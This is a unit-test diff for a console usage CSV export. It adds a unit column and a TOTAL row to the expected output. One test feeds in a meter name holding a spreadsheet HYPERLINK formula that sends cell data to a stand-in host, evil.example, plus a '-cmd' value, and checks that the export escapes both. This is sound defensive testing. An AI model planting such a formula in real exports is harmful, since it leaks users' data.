@@ -77,9 +77,10 @@ describe("console usage", () => {
     });
     expect(summary.filename).toBe("usage-summary-2026-02-02-to-2026-02-02.csv");
     const lines = summary.csv.trim().split("\n");
-    expect(lines[0]).toBe(`"meter","total_usage","event_count","built_in"`);
-    expect(lines).toContain(`"series-b","4","1","no"`);
-    expect(lines).toContain(`"series-a","2.25","2","no"`);
+    expect(lines[0]).toBe(`"meter","total_usage","event_count","built_in","unit"`);
+    expect(lines).toContain(`"series-b","4","1","no",`);
+    expect(lines).toContain(`"series-a","2.25","2","no",`);
+    expect(lines.at(-1)).toBe(`"TOTAL",,"3",,`);
     const series = await client.console.usage.csv.query({
       from: "2026-02-02",
       to: "2026-02-02",
@@ -105,8 +106,8 @@ describe("console usage", () => {
     expect((await record("-cmd", 2, "2026-03-03T11:00:00Z")).status).toBe(201);
     const input = { from: "2026-03-03", to: "2026-03-03", tz: "UTC" };
     const summary = (await client.console.usage.csv.query({ ...input, kind: "summary" })).csv.trim().split("\n");
-    expect(summary).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1","no"`);
-    expect(summary).toContain(`"'-cmd","2","1","no"`);
+    expect(summary).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1","no",`);
+    expect(summary).toContain(`"'-cmd","2","1","no",`);
     const series = (await client.console.usage.csv.query({ ...input, kind: "series" })).csv.trim().split("\n");
     expect(series).toContain(`"2026-03-03T10:00","'=HYPERLINK(""https://evil.example/?""&A1,""open"")","1","1"`);
     expect(series).toContain(`"2026-03-03T11:00","'-cmd","2","1"`);
